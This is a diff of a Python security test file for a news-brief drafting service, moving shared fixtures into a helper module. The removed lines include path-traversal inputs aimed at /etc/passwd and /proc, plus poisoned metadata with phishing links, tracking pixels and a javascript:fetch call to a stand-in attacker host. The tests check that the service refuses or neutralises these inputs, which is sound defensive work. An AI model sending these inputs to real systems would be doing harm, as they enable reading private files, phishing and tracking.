@@ -1,6 +1,6 @@
 """Issue 16 as attacks: each test makes the request an attacker would and asserts the refusal or clean output.
 
-The service runs in-process under real uvicorn on loopback (tests.test_service.running), so a test can
+The service runs in-process under real uvicorn on loopback (agent.testing.service.running), so a test can
 count the files ingest reads and the requests the fake model receives.
 """
 
@@ -22,21 +22,11 @@ import agent.ingest
 from agent.config import api_tokens
 from agent.config import ServiceSettings
 from agent.service import create_app, is_loopback
-from tests.fake_openai import Stall, Status
+from tests.fakes import (ESCAPES, LISK_ARTICLE, POISONED_META, STORY, Stall, Status, call, free_port, good_model, poll_job,
+                         poisoned_sources, running, service_settings, settings_for)
 from tests.security_helpers import slow_check
-from tests.test_graph import STORY, good_model, settings_for
-from tests.test_service import DIRECT, call, free_port, poll_job, running
 
 ROOT = Path(__file__).resolve().parent.parent
-ARTICLE = ("The Lisk harbour board approved a new ferry terminal on Monday, chair Oona Hale said. "
-           "The terminal will cost 40 million euros and open in 2028, according to the board.")
-
-
-def service_settings(tmp_path: Path, base_url: str, *, draft: dict | None = None, limits: dict | None = None,
-                     **service) -> ServiceSettings:
-    brief = settings_for(tmp_path, base_url, **(draft or {}))
-    brief = brief.model_copy(update={"service": brief.service.model_copy(update=service)})
-    return ServiceSettings(brief=brief, api_tokens=[], **(limits or {}))
 
 
 @pytest.fixture
@@ -79,17 +69,6 @@ def test_path_sources_are_refused_by_default(tmp_path, fake_openai, reads):
     assert reads == [] and fake_openai.requests == []
 
 
-ESCAPES = {
-    "absolute outside": lambda root: "/etc/passwd",
-    "folder outside": lambda root: "/etc",
-    "proc": lambda root: "/proc/self/status",
-    "dot-dot": lambda root: f"{root}/story/../../../../../../etc/hostname",
-    "symlinked file": lambda root: f"{root}/passwd.md",
-    "symlinked folder": lambda root: f"{root}/etc",
-    "file in symlinked folder": lambda root: f"{root}/etc/passwd",
-    "relative": lambda root: "../../../../../../../../etc/passwd",
-    "missing outside": lambda root: "/nonexistent/secret.md",
-}
 
 
 @pytest.mark.parametrize("attempt", sorted(ESCAPES))
@@ -119,7 +98,7 @@ def test_refusals_for_existing_and_missing_paths_are_identical(tmp_path, fake_op
     settings = service_settings(tmp_path, fake_openai.base_url, path_sources=True, path_roots=[root])
     with running(create_app(settings)) as base:
         answers = [call(base, "POST", "/v1/briefs", {"sources": [p]}) for p in ("/etc/passwd", "/etc/nosuchfile")]
-        configs = [call(base, "POST", "/v1/briefs", {"sources": [{"text": ARTICLE}], "config": p})
+        configs = [call(base, "POST", "/v1/briefs", {"sources": [{"text": LISK_ARTICLE}], "config": p})
                    for p in ("/etc/passwd", "/etc/nosuchfile.toml")]
     (s1, e1, _), (s2, e2, _) = answers
     assert s1 == s2 == 403 and e1["error"]["message"].replace("passwd", "?") == e2["error"]["message"].replace("nosuchfile", "?")
@@ -136,7 +115,7 @@ def test_one_client_cannot_read_another_clients_sources_through_the_data_dir(tmp
     (tmp_path / "public").mkdir()
     (tmp_path / "public" / "wire.md").write_text((STORY / "wire.md").read_text())
     with running(create_app(settings)) as base:
-        status, _, _ = call(base, "POST", "/v1/briefs", {"sources": [{"text": secret + " " + ARTICLE, "outlet": "A"}]})
+        status, _, _ = call(base, "POST", "/v1/briefs", {"sources": [{"text": secret + " " + LISK_ARTICLE, "outlet": "A"}]})
         assert status == 200 and list((tmp_path / "data" / "runs").glob("*/sources.json"))
         for item in (tmp_path / "data", tmp_path / "data" / "runs", next((tmp_path / "data" / "runs").glob("*/sources.json"))):
             status, error, _ = call(base, "POST", "/v1/briefs", {"sources": [str(item)]})
@@ -151,7 +130,7 @@ def test_path_sources_are_bounded_per_request(tmp_path, fake_openai, reads, limi
     folder = tmp_path / "root"
     folder.mkdir()
     for i in range(5):
-        (folder / f"doc{i}.md").write_text(ARTICLE * 20)
+        (folder / f"doc{i}.md").write_text(LISK_ARTICLE * 20)
     settings = service_settings(tmp_path, fake_openai.base_url, path_sources=True, path_roots=[folder], **limit)
     with running(create_app(settings)) as base:
         status, error, _ = call(base, "POST", "/v1/briefs", {"sources": [str(folder)]})
@@ -240,7 +219,7 @@ def test_endpoint_credentials_reach_no_file_stderr_or_client(tmp_path, fake_open
     secret_url = _secret_url(fake_openai)
     settings = service_settings(tmp_path, secret_url, draft={"mode": "section"})
     with running(create_app(settings)) as base:
-        status, error, _ = call(base, "POST", "/v1/briefs", {"sources": [{"text": ARTICLE, "outlet": "Lisk Post"}]})
+        status, error, _ = call(base, "POST", "/v1/briefs", {"sources": [{"text": LISK_ARTICLE, "outlet": "Lisk Post"}]})
     assert status == 502 and error["error"]["code"] == "llm-unavailable"
     client_view = json.dumps(error)
     assert "S3CRET" not in client_view and "127.0.0.1" not in client_view and "agent" not in client_view
@@ -248,7 +227,7 @@ def test_endpoint_credentials_reach_no_file_stderr_or_client(tmp_path, fake_open
 
     cfg = tmp_path / "cli.toml"
     cfg.write_text(f'[embeddings]\nbackend = "hashing"\n[drafter]\nbase_url = "{secret_url}"\nmax_attempts = 2\n')
-    (tmp_path / "src.md").write_text(ARTICLE)
+    (tmp_path / "src.md").write_text(LISK_ARTICLE)
     env = {k: v for k, v in os.environ.items() if not k.startswith(("OPENAI", "BRIEF"))}
     proc = subprocess.run([sys.executable, "-m", "agent.cli", "draft", str(tmp_path / "src.md"), "-o",
                            str(tmp_path / "out"), "--config", str(cfg), "--data-dir", str(tmp_path / "data")],
@@ -268,8 +247,8 @@ def test_endpoint_credentials_reach_no_file_stderr_or_client(tmp_path, fake_open
 
 
 @pytest.mark.parametrize("route, body", [
-    ("/v1/briefs", {"sources": [{"text": "Harbour text \udc00 here. " + ARTICLE}]}),
-    ("/v1/briefs", {"sources": [{"text": ARTICLE, "outlet": "Lisk \udc00 Post"}]}),
+    ("/v1/briefs", {"sources": [{"text": "Harbour text \udc00 here. " + LISK_ARTICLE}]}),
+    ("/v1/briefs", {"sources": [{"text": LISK_ARTICLE, "outlet": "Lisk \udc00 Post"}]}),
     ("/v1/briefs", {"sources": ["story\udc00.md"]}),
     ("/v1/check", {"draft": "A draft \udc00 sentence here."}),
     ("/v1/check", {"draft": {"headline": "\udc00"}}),
@@ -294,7 +273,7 @@ def test_deeply_nested_json_is_a_clean_error(tmp_path, fake_openai):
 
 
 def test_json_step_with_a_lone_surrogate_is_a_json_error_and_exit_2(tmp_path):
-    request = json.dumps({"sources": [{"text": "Harbour \udc00 text. " + ARTICLE, "outlet": "Lisk \udc00 Post"}]})
+    request = json.dumps({"sources": [{"text": "Harbour \udc00 text. " + LISK_ARTICLE, "outlet": "Lisk \udc00 Post"}]})
     assert "\\udc00" in request
     proc = subprocess.run([sys.executable, "-m", "agent.cli", "draft", "--json", "-", "--data-dir", str(tmp_path / "d")],
                           cwd=ROOT, input=request, capture_output=True, text=True, timeout=120)
@@ -340,7 +319,7 @@ def test_a_timed_out_draft_is_cancelled_and_frees_the_slot(tmp_path, fake_openai
     settings = service_settings(tmp_path, fake_openai.base_url, draft={"mode": "sentence"},
                                 limits={"time_limit_s": 2})
     with running(create_app(settings)) as base:
-        status, error, _ = call(base, "POST", "/v1/briefs", {"sources": [{"text": ARTICLE * 3, "outlet": "Lisk"}]})
+        status, error, _ = call(base, "POST", "/v1/briefs", {"sources": [{"text": LISK_ARTICLE * 3, "outlet": "Lisk"}]})
         assert status == 504 and error["error"]["code"] == "timeout"
         deadline = time.monotonic() + 3
         while any(t.name == "brief-draft" for t in threading.enumerate()) and time.monotonic() < deadline:
@@ -349,7 +328,7 @@ def test_a_timed_out_draft_is_cancelled_and_frees_the_slot(tmp_path, fake_openai
         sent = len(fake_openai.requests)
         fake_openai.set_responder(good_model)
         started = time.monotonic()
-        status, document, _ = call(base, "POST", "/v1/briefs", {"sources": [{"text": ARTICLE * 3, "outlet": "Lisk"}]})
+        status, document, _ = call(base, "POST", "/v1/briefs", {"sources": [{"text": LISK_ARTICLE * 3, "outlet": "Lisk"}]})
         assert status == 200 and document["status"] in ("published", "rejected")
         assert time.monotonic() - started < 2 + 1.5 or len(fake_openai.requests) > sent
 
@@ -435,31 +414,13 @@ def test_role_marker_in_a_graded_brief_or_source_opens_no_turn(where):
 
 # --- 4. metadata is data, never markup ------------------------------------------------------------
 
-POISONED_META = {
-    "outlet": "[Harbour Gazette](https://evil.example/phish?c=CANARY-7781)",
-    "title": "Tram <img src=https://evil.example/t.gif?c=CANARY-7781> approved <a href='https://evil.example'>here</a>",
-    "topic": "![](https://evil.example/pixel.gif?u=CANARY-7781)",
-    "url": "javascript:fetch('https://evil.example/CANARY-7781')",
-}
-
-
-def _poisoned_sources(folder: Path, meta: dict) -> Path:
-    folder.mkdir(parents=True, exist_ok=True)
-    body = (STORY / "daily.md").read_text().split("---", 2)[2]
-    front = "".join(f"{k}: {json.dumps(v)}\n" for k, v in meta.items())
-    (folder / "gazette.md").write_text(f"---\n{front}published: 2026-05-13\n---\n{body}")
-    (folder / "wire.md").write_text((STORY / "wire.md").read_text())
-    (folder / "feed.jsonl").write_text(json.dumps({**meta, "text": ARTICLE * 2, "outlet": meta["outlet"] + " two"}) + "\n")
-    return folder
-
-
 @pytest.mark.parametrize("mode", ["section", "sentence"])
 def test_metadata_links_and_pixels_reach_no_output_prompt_or_registry(tmp_path, fake_openai, mode):
     from agent.api import draft_brief
     from agent.publish import write_outputs
 
     fake_openai.set_responder(good_model)
-    folder = _poisoned_sources(tmp_path / "src", POISONED_META)
+    folder = poisoned_sources(tmp_path / "src", POISONED_META)
     result = draft_brief([folder], config=settings_for(tmp_path, fake_openai.base_url, mode=mode))
     assert result.brief is not None and "Harbour Gazette" in {s.outlet for s in result.brief.sources}
     written = write_outputs(result, tmp_path / "out", ninjs=True)
@@ -480,7 +441,7 @@ def test_a_sources_own_url_is_kept_as_a_plain_reference(tmp_path, fake_openai):
 
     fake_openai.set_responder(good_model)
     meta = {"outlet": "Harbour Gazette", "title": "Tram approved", "topic": "tram", "url": "https://gazette.example/tram"}
-    folder = _poisoned_sources(tmp_path / "src", meta)
+    folder = poisoned_sources(tmp_path / "src", meta)
     result = draft_brief([folder], config=settings_for(tmp_path, fake_openai.base_url))
     written = write_outputs(result, tmp_path / "out", ninjs=True)
     md = next(p for p in written if p.name.endswith(".md")).read_text()
@@ -533,7 +494,7 @@ def _draft_cli(tmp_path: Path, data_dir: Path, base_url: str, *, as_nobody: bool
 
     cfg = tmp_path / "cli.toml"
     cfg.write_text(f'[embeddings]\nbackend = "hashing"\n[drafter]\nbase_url = "{base_url}"\nmax_attempts = 1\n')
-    (tmp_path / "src.md").write_text(ARTICLE)
+    (tmp_path / "src.md").write_text(LISK_ARTICLE)
     command = [sys.executable, "-m", "agent.cli", "draft", str(tmp_path / "src.md"), "-o", str(tmp_path / "out"),
                "--config", str(cfg), "--data-dir", str(data_dir)]
     if as_nobody:
@@ -597,7 +558,7 @@ def test_html_nested_deeper_than_libxml2_allows_keeps_its_text_and_hides_what_is
 
 def test_a_rejected_run_leaves_no_earlier_brief_beside_its_rejected_one(tmp_path):
     from agent.publish import write_outputs
-    from tests.test_endpoint_faults import _result, write_old_output
+    from tests.fakes import sample_result as _result, write_old_output
 
     out = tmp_path / "out"
     write_old_output(out)  # brief.md/html/json of an earlier, published run
